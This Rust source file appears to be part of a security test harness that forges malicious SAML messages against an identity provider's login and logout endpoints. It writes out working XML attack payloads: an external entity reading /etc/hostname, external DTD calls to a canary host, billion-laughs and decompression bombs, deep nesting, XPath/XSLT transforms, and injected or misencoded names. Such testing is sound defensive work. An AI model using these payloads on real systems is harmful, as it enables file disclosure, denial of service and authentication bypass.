//! XML: what a parser could be made to do.

use std::fmt::Write as _;

use base64::{
    Engine,
    engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE},
};
use idp_saml::{
    binding::{Kind, redirect},
    xml::Markup,
};
use url::Url;

use super::{Entry, answer, at};
use crate::attack::{
    browser::Sent,
    error::ForgeError,
    forge::{Forger, VICTIM, cut, name_id, paste, span, text},
    stage::Door,
};

/// What a bomb weighs once it has gone off, in bytes.
const BOMB: usize = 12 << 20;

#[rustfmt::skip]
pub(super) static ENTRIES: &[Entry] = &[
    answer("XML-01", "a file as an external entity", |f| f.answer(reading(&f.response()?))),
    at(Door::SsoPost, "XML-01", "the same in a request by form", |f| request(f, Door::SsoPost, reading)),
    at(Door::SsoRedirect, "XML-01", "the same in a request by address", |f| request(f, Door::SsoRedirect, reading)),
    at(Door::SloPost, "XML-01", "the same in a logout by form", |f| logout(f, Door::SloPost, reading)),
    at(Door::SloSoap, "XML-01", "the same in a logout by SOAP", |f| logout(f, Door::SloSoap, reading)),
    answer("XML-02", "a document type that lies elsewhere", |f| f.answer(calling(&f.response()?, f.canary))),
    answer("XML-02", "a parameter entity that lies elsewhere", |f| {
        let doctype = format!("<!DOCTYPE x [<!ENTITY % p SYSTEM \"{}/x.dtd\">%p;]>", f.canary);
        f.answer(doctype + &f.response()?)
    }),
    at(Door::SsoPost, "XML-02", "a document type that lies elsewhere, in a request", |f| {
        request(f, Door::SsoPost, |xml| calling(xml, f.canary))
    }),
    answer("XML-03", "ten entities of ten of the one before", |f| f.answer(laughing(&f.response()?))),
    answer("XML-03", "one long entity, two thousand times", |f| {
        let entity = format!("<!DOCTYPE x [<!ENTITY a \"{}\">]>", "x".repeat(40_000));
        f.answer(entity + &f.response()?.replacen(VICTIM, &"&a;".repeat(2_000), 1))
    }),
    answer("XML-04", "a document type that moves signatures to another namespace", |f| {
        let doctype = "<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA \"urn:x\">]>";
        f.answer(doctype.to_owned() + &f.response()?)
    }),
    answer("XML-05", "120 elements inside each other", |f| f.answer(nested(&f.response()?, 120))),
    answer("XML-05", "18,000 elements inside each other", |f| f.answer(nested(&f.response()?, 18_000))),
    answer("XML-05", "40,000 elements inside each other", |f| f.answer(nested(&f.response()?, 40_000))),
    at(Door::SsoRedirect, "XML-08", "a request that inflates to 12 MiB", |f| request(f, Door::SsoRedirect, bomb)),
    at(Door::SsoPost, "XML-08", "a deflated request by form", |f| {
        let deflated = deflated(f, bomb)?;
        f.bring(Door::SsoPost, Kind::Request, deflated)
    }),
    at(Door::SloRedirect, "XML-09", "a logout that inflates to 12 MiB", |f| logout(f, Door::SloRedirect, bomb)),
    at(Door::SsoRedirect, "XML-09", "a request in a zlib wrapper", |f| {
        wrapped(f, |raw, plain| [&[0x78, 0x9c][..], &raw, &adler32(plain).to_be_bytes()].concat())
    }),
    at(Door::SsoRedirect, "XML-09", "a request in a gzip wrapper", |f| {
        // Whoever reads the trailer has read on already, so that its sums do not matter.
        wrapped(f, |raw, _| [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff][..], &raw, &[0; 8]].concat())
    }),
    answer("XML-12", "an XPath transform", |f| transformed(f, XPATH)),
    answer("XML-12", "an XPath filter", |f| transformed(f, FILTER)),
    answer("XML-12", "an XSLT transform", |f| transformed(f, XSLT)),
    answer("XML-12", "canonicalization that keeps comments", |f| transformed(f, COMMENTS)),
    answer("XML-13", "400 references in one signature", |f| repeated(f, "Reference", 400)),
    answer("XML-13", "100 signatures", |f| repeated(f, "Signature", 100)),
    answer("XML-15", "UTF-16", |f| {
        let text = format!("\u{feff}<?xml version=\"1.0\" encoding=\"UTF-16\"?>{}", f.response()?);
        f.answer(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }),
    answer("XML-15", "a declaration of ISO-8859-1", |f| f.answer(declaring("ISO-8859-1", &f.response()?))),
    answer("XML-15", "a declaration of UTF-7", |f| f.answer(declaring("UTF-7", &f.response()?))),
    answer("XML-15", "a NUL in the name", |f| named(f, b"a\0b")),
    answer("XML-15", "an overlong sequence in the name", |f| named(f, b"\xc0\xaf")),
    answer("XML-15", "half a surrogate pair in the name", |f| named(f, b"\xed\xa0\x80")),
    answer("XML-16", "a processing instruction in the name", |f| named(f, b"admin<?x?>.example")),
    answer("XML-16", "a comment in the name", |f| named(f, b"admin<!---->.example")),
    answer("XML-16", "a CDATA section in the name", |f| named(f, b"<![CDATA[admin]]>")),
    answer("XML-17", "a second root", |f| f.answer(f.response()? + &f.response()?)),
    answer("XML-17", "text behind the root", |f| f.answer(f.response()? + "text")),
    answer("XML-17", "a processing instruction behind the root", |f| f.answer(f.response()? + "<?x?>")),
    answer("XML-19", "base64 in the alphabet of URLs", |f| encoded(f, |xml| URL_SAFE.encode(padded(xml, b"???>>>")))),
    answer("XML-19", "base64 without its padding", |f| encoded(f, |xml| STANDARD_NO_PAD.encode(padded(xml, b"")))),
    answer("XML-19", "two texts of base64 in a row", |f| encoded(f, |xml| STANDARD.encode(padded(xml, b"")).repeat(2))),
    answer("XML-19", "XML without base64", |f| encoded(f, str::to_owned)),
];

const XPATH: &str = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\">\
    <ds:XPath>count(//*[count(//*[count(//*)])])</ds:XPath></ds:Transform>";
const FILTER: &str = "<ds:Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\">\
    <XPath xmlns=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"subtract\">//*</XPath>\
    </ds:Transform>";
const XSLT: &str = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">\
    <xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>\
    </ds:Transform>";
const COMMENTS: &str =
    "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#WithComments\"/>";

/// With an entity that reads a file of the node, behind the issuer's name.
fn reading(xml: &str) -> String {
    let doctype = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>";
    doctype.to_owned() + &xml.replacen("</saml:Issuer>", "&e;</saml:Issuer>", 1)
}

fn calling(xml: &str, canary: &str) -> String {
    format!("<!DOCTYPE x SYSTEM \"{canary}/\">{xml}")
}

fn laughing(xml: &str) -> String {
    let mut entities = "<!ENTITY a0 \"ha\">".to_owned();
    for level in 1..10 {
        let inside = format!("&a{};", level - 1).repeat(10);
        // A string takes whatever is written to it.
        let _ = write!(entities, "<!ENTITY a{level} \"{inside}\">");
    }
    format!("<!DOCTYPE x [{entities}]>{}", xml.replacen(VICTIM, "&a9;", 1))
}

fn nested(xml: &str, levels: usize) -> String {
    let inside = "<a>".repeat(levels) + &"</a>".repeat(levels);
    let extensions = format!("</saml:Issuer><samlp:Extensions>{inside}</samlp:Extensions>");
    xml.replacen("</saml:Issuer>", &extensions, 1)
}

/// With as many spaces as a bomb has, where spaces mean nothing.
fn bomb(xml: &str) -> String {
    xml.replacen("</saml:Issuer>", &format!("</saml:Issuer>{}", " ".repeat(BOMB)), 1)
}

fn declaring(encoding: &str, xml: &str) -> String {
    format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{xml}")
}

/// A request for a login, spoilt.
fn request(f: &Forger<'_>, door: Door, spoil: impl Fn(&str) -> String) -> Result<Sent, ForgeError> {
    let request = text(&f.request(door, &f.any_provider())?)?;
    f.bring(door, Kind::Request, spoil(&request))
}

/// A request for a logout, spoilt.
fn logout(f: &Forger<'_>, door: Door, spoil: impl Fn(&str) -> String) -> Result<Sent, ForgeError> {
    let request = text(&f.logout(door)?)?;
    f.bring(door, Kind::Request, spoil(&request))
}

/// The raw DEFLATE of a spoilt request.
fn deflated(f: &Forger<'_>, spoil: impl Fn(&str) -> String) -> Result<Vec<u8>, ForgeError> {
    let request: Markup = f.request(Door::SsoPost, &f.any_provider())?;
    deflate(&spoil(&text(&request)?))
}

/// What our writer of addresses deflates a text to.
fn deflate(xml: &str) -> Result<Vec<u8>, ForgeError> {
    const MISSING: ForgeError = ForgeError::Missing("deflated text");
    let place = "https://attack-test.invalid/";
    let url = redirect::write_unsigned(place, Kind::Request, xml.as_bytes(), None);
    let url = Url::parse(&url).map_err(|_| MISSING)?;
    let (_, value) = url.query_pairs().next().ok_or(MISSING)?;
    STANDARD.decode(value.as_bytes()).map_err(|_| MISSING)
}

/// A request whose DEFLATE is put into a wrapper that the binding does not have.
fn wrapped(f: &Forger<'_>, wrap: impl Fn(Vec<u8>, &[u8]) -> Vec<u8>) -> Result<Sent, ForgeError> {
    let place = f.place(Door::SsoRedirect)?;
    let request = text(&f.request(Door::SsoRedirect, &f.any_provider())?)?;
    let wrapped = STANDARD.encode(wrap(deflate(&request)?, request.as_bytes()));
    let mut query = url::form_urlencoded::Serializer::new(String::new());
    query.append_pair(Kind::Request.parameter(), &wrapped);
    Ok(Sent::Query(format!("{place}?{}", query.finish())))
}

/// The sum at the end of a zlib stream (RFC 1950).
fn adler32(bytes: &[u8]) -> u32 {
    const PRIME: u32 = 65_521;
    let (low, high) = bytes.iter().fold((1, 0), |(low, high), byte| {
        let low = (low + u32::from(*byte)) % PRIME;
        (low, (high + low) % PRIME)
    });
    high << 16 | low
}

/// With one more transform behind the first one.
fn transformed(f: &Forger<'_>, transform: &str) -> Result<Sent, ForgeError> {
    let xml = f.response()?;
    let first = span(&xml, "Transform").ok_or(ForgeError::Missing("transform"))?;
    f.answer(paste(&xml, first.whole.end, transform))
}

/// With one element so many times.
fn repeated(f: &Forger<'_>, local: &'static str, times: usize) -> Result<Sent, ForgeError> {
    let xml = f.response()?;
    let found = span(&xml, local).ok_or(ForgeError::Missing(local))?.whole;
    let element = xml.get(found.clone()).unwrap_or_default().repeat(times);
    f.answer(paste(&cut(&xml, &found), found.start, &element))
}

/// With these bytes for the name, put in after it was signed.
fn named(f: &Forger<'_>, name: &[u8]) -> Result<Sent, ForgeError> {
    let mut draft = f.draft(VICTIM)?;
    draft.names = vec![name_id("NAME")];
    let xml = draft.signed()?;
    let (before, after) = xml.split_once("NAME").ok_or(ForgeError::Missing("name"))?;
    f.answer([before.as_bytes(), name, after.as_bytes()].concat())
}

/// In a form of its own.
fn encoded(f: &Forger<'_>, encode: impl Fn(&str) -> String) -> Result<Sent, ForgeError> {
    let xml = f.response()?;
    f.answer_as([(Kind::Response.parameter(), encode(&xml))])
}

/// With as much behind it as base64 needs to pad it, and these bytes before that.
fn padded(xml: &str, more: &[u8]) -> Vec<u8> {
    let mut bytes = [xml.as_bytes(), more].concat();
    bytes.resize(bytes.len() + 4 - bytes.len() % 3, b' ');
    bytes
}
